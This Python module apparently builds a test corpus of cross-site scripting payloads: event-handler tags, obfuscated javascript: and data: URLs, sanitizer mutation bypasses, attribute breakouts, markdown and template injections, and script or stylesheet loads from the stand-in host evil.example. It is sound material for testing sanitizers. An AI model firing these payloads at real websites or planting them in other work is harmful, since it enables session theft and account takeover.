"""Payloads that would run, load or navigate: each calls `__pwned`, opens a dialog, or asks evil.example."""

from collections.abc import Iterator
from itertools import product

CALL = "__pwned(1)"
EVIL = "https://evil.example"

# Elements that run something by themselves; `{on}` is the handler's value, `{s}` what stands between attributes.
BY_THEMSELVES = (
    "<img{s}src=x{s}onerror={on}>", "<svg{s}onload={on}>", "<body{s}onload={on}>", "<iframe{s}onload={on}>",
    "<video><source{s}onerror={on}></video>", "<audio{s}src=x{s}onerror={on}>", "<details{s}open{s}ontoggle={on}>x",
    "<input{s}autofocus{s}onfocus={on}>", "<select{s}autofocus{s}onfocus={on}>", "<a{s}href=x{s}autofocus{s}onfocus={on}>x</a>",
    "<textarea{s}autofocus{s}onfocus={on}>", "<marquee{s}onstart={on}>x", "<object{s}data=x{s}onerror={on}>",
    "<style{s}onload={on}></style>", "<link{s}rel=stylesheet{s}href=x{s}onerror={on}>", "<script{s}src=x{s}onerror={on}></script>",
    "<svg><animate{s}onbegin={on}{s}attributeName=x{s}dur=1s>", "<svg><set{s}onbegin={on}{s}attributeName=x>",
    "<p{s}tabindex=1{s}autofocus{s}onfocus={on}>x", "<b{s}onmouseover={on}>x</b>", "<image{s}src=x{s}onerror={on}>",
    "<video{s}src=x{s}onerror={on}>", "<embed{s}src=x{s}onload={on}>", "<math><mi{s}onclick={on}>x</mi></math>",
)  # fmt: skip
SPACES = (" ", "/", "\n", "\t", "\x0c", " / ")
URLS = (
    "javascript:{j}", "JaVaScRiPt:{j}", " javascript:{j}", "\x01javascript:{j}", "java\tscript:{j}", "java\nscript:{j}",
    "java\rscript:{j}", "javascript&colon;{j}", "javascript&#58;{j}", "&#106;avascript:{j}", "&#x6a;avascript&#x3a;{j}",
    "&#0000106avascript:{j}", "java&Tab;script:{j}", "java&NewLine;script:{j}", "javascript:%0a{j}", "javascript://%0a{j}",
    "javascript:/*--></title>*/{j}", "java\x00script:{j}", "\u00a0javascript:{j}", "javascript\u200b:{j}", "vbscript:{j}",
    "VBScript&colon;{j}", "data:text/html,<script>{j}</script>", "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDEpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload={j}>", "DATA:text/html,%3Cscript%3E{j}%3C/script%3E", "view-source:javascript:{j}",
    "feed:javascript:{j}", "jar:javascript:{j}!", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example",
)  # fmt: skip
PLACES_OF_URLS = (
    '<a href="{u}">x</a>', '<iframe src="{u}"></iframe>', '<form action="{u}"><button autofocus>x</button></form>',
    '<object data="{u}"></object>', '<svg><a xlink:href="{u}"><text>x</text></a></svg>', '<math href="{u}">x</math>',
    "[x]({u})", "[x](<{u}>)", "![x]({u})", "<{u}>", "[x]\n\n[x]: {u} 'y'", '<button formaction="{u}">x</button>',
    '<meta http-equiv=refresh content="0;url={u}">', '<base href="{u}">',
)  # fmt: skip
SCRIPTS = (
    "<script>{j}</script>", "<SCRIPT>{j}</SCRIPT>", "<script >{j}</script >", "<script\n>{j}</script\n>", "<script>{j}//",
    "<script>{j}<!--", "<<script>{j}//<</script>", "<scr<script>ipt>{j}</scr</script>ipt>", "<scr\0ipt>{j}</scr\0ipt>",
    "<script/x>{j}</script>", "<script src=//evil.example/x.js></script>", "<script src=data:,{j}></script>",
    "<script type=module>{j}</script>", "<svg><script>{j}</script></svg>", "<svg><script>&#95;&#95;pwned(1)</script></svg>",
    "<svg><script href=data:,{j} /></svg>", "<script><![CDATA[{j}]]></script>", "<?xml version='1.0'?><script>{j}</script>",
    "<!--><script>{j}</script>", "<!-- --!><script>{j}</script>", "<![CDATA[><script>{j}</script>]]>", "</script><script>{j}</script>",
    "%3Cscript%3E{j}%3C/script%3E", "&lt;script&gt;{j}&lt;/script&gt;", "\\u003cscript\\u003e{j}\\u003c/script\\u003e",
    "+ADw-script+AD4-{j}+ADw-/script+AD4-", "\uff1cscript\uff1e{j}\uff1c/script\uff1e", "<\u202escript>{j}</script>",
    "<script\u2028>{j}</script>", "<ſcript>{j}</ſcript>", "<script>window['__pw'+'ned'](1)</script>",
)  # fmt: skip
OUT_OF = ("</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "</select>", "-->", "]]>", "*/",
          "</math>", "</svg>", "</xmp>", "</iframe>", '">', "'>", "`>", '"/>', "\">'>", ">")  # fmt: skip
AFTER = ("<script>{j}</script>", "<img src=x onerror={j}>", "<svg/onload={j}>")
BREAKOUTS = (
    '" onmouseover={j} x="', "' onmouseover={j} x='", "` onmouseover={j} x=`", '" autofocus onfocus={j} x="', "' autofocus onfocus={j} '",
    '"onfocus={j} autofocus="', "&quot; onfocus={j} autofocus &quot;", "&#34; onfocus={j} autofocus &#34;", '\\" onfocus={j} autofocus \\"',
    "\x0confocus={j}\x0cautofocus\x0c", '" style="background:url(//evil.example/x)" "', '"><base href=//evil.example/>',
    "x onerror={j}", "';{j}//", '";{j}//', "\\';{j}//", "</script><script>{j}//", "${{{j}}}", "`${{{j}}}`",
)  # fmt: skip
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={j}&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror={j}>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror={j}>",
    "<noscript><p title=\"</noscript><img src=x onerror={j}>\">", "<listing>&lt;img src=1 onerror={j}&gt;</listing>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror={j}></style></annotation-xml></math>",
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.{j}</script>\"></foreignObject></svg>", "<template><script>{j}</script></template>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{j}</script></svg>#x\"/></svg>",
    "<table><caption><svg><title><table><caption></caption></table></title></svg><img src=x onerror={j}>", "<select><style></select><img src=x onerror={j}>",
    "<math><maction actiontype=statusline xlink:href=javascript:{j}>x</maction></math>", "<svg><style>&lt;img src=x onerror={j}&gt;</style></svg>",
    "<iframe srcdoc='&lt;script&gt;parent.{j}&lt;/script&gt;'></iframe>", "<portal src=javascript:{j}></portal>", "<frameset onload={j}>",
    "<plaintext><script>{j}</script>", "<xmp><p title='</xmp><img src=x onerror={j}>'>", "<title><img title=\"</title><img src=x onerror={j}>\">",
    "<svg><desc><script>{j}</script></desc></svg>", "<svg><title><style><img src=x onerror={j}></style></title></svg>", "<keygen autofocus onfocus={j}>",
)  # fmt: skip
STYLES = (
    "<style>@import '//evil.example/x.css'</style>", "<style>*{background:url(//evil.example/x)}</style>", "<p style='background:url(//evil.example/x)'>x",
    "<p style=\"width:expression({j})\">x", "<p style='behavior:url(//evil.example/x)'>x", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>", "<p style=\"position:fixed;inset:0;z-index:9\">all yours", "<svg><style>@import '//evil.example/y'</style></svg>",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:{j} \"t\")", "[a](\"onclick={j}x)", "![a](x\"onerror={j})", "![\"onerror={j}](https://e.example/x)", "[x](https://e.example/\"onclick={j}\")",
    "[^1]\n\n[^1]: <img src=x onerror={j}>", "[^\"><img src=x onerror={j}>]\n\n[^\"><img src=x onerror={j}>]: x", "```\"><img src=x onerror={j}>\nx\n```",
    "`<img src=x onerror={j}>`", "~~~html\n<script>{j}</script>\n~~~", "# <img src=x onerror={j}>", "|a|\n|-|\n|<img src=x onerror={j}>|", "> <svg onload={j}>",
    "- [ ] <svg onload={j}>", "$\\href{{javascript:{j}}}{{x}}$", "$\\text{{<img src=x onerror={j}>}}$", "$$\\unicode{{<svg onload={j}>}}$$", "<javascript:{j}>",
    "https://e.example/\"onmouseover={j}", "https://e.example/<img src=x onerror={j}>", "[x](data:text/html,<script>{j}</script>)", "@ada\"onclick={j}", "#topic\"onclick={j}",
    "![x](/f/0123456789abc/picture\"onerror={j})", "![x](//evil.example/x.png)", "![x](https://evil.example/x.png)", "<img src=\"/f/0123456789abc/picture\" onerror={j}>",
    "    <script>{j}</script>", "x<!-- -->\n<script>{j}</script>", "[x]: https://e.example/ \"'><img src=x onerror={j}>\"\n\n[x]", "&#60;script&#62;{j}&#60;/script&#62;",
)  # fmt: skip
TEMPLATES = (
    "{{{{7*7}}}}", "{{{{constructor.constructor('{j}')()}}}}", "${{{j}}}", "#{{{j}}}", "<%= {j} %>", "{{% print {j} %}}", "{{{{self.__init__.__globals__}}}}",
    "{{{{request}}}}", "%(name)s", "{{name}}", "\ue0000123456789abcdefhtml\ue001", "\ue000html\ue001", "{{body}}{{joins}}{{sight}}", "%s%s%s", "\x00<script>{j}</script>",
)  # fmt: skip


def made() -> Iterator[str]:
    """All of them, some twice over."""
    values = (CALL, f'"{CALL}"', f"'{CALL}'", "&#95;&#95;pwned(1)", "alert(1)")
    for turn, (shape, space) in enumerate(product(BY_THEMSELVES, SPACES)):
        yield shape.format(s=space, on=values[turn % len(values)])
    for turn, (place, url) in enumerate(product(PLACES_OF_URLS, URLS)):
        yield place.format(u=url.format(j=CALL if turn % 3 else "alert(1)"))
    for end, after in product(OUT_OF, AFTER):
        yield end + after.format(j=CALL)
    for shapes in (SCRIPTS, BREAKOUTS, MUTATIONS, MARKDOWN, TEMPLATES):
        yield from (shape.format(j=CALL) for shape in shapes)
    yield from (shape.replace("{j}", CALL) for shape in STYLES)
    for shape in (*SCRIPTS[:4], *MUTATIONS[:4]):  # in letters that look like others, and upside down
        yield "\u202e" + shape.format(j=CALL)[::-1] + "\u202c"
        yield shape.format(j=CALL).upper()


PAYLOADS = list(dict.fromkeys(made()))
